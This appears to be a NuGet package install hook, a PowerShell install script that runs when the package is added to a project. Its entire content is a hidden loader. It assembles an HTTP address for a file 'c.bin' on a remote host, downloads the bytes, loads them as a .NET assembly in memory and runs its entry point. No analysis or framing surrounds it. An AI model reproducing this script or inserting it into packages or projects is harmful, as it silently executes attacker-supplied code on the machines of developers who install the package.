param($installPath, $toolsPath, $package, $project)

$h = "198.51.100.61"
$p = "{0}://{1}/{2}" -f 'http', $h, 'c.bin'
$wc = New-Object System.Net.WebClient
$bytes = $wc.DownloadData($p)
$asm = [System.Reflection.Assembly]::Load($bytes)
$asm.EntryPoint.Invoke($null, @(, [string[]]@()))
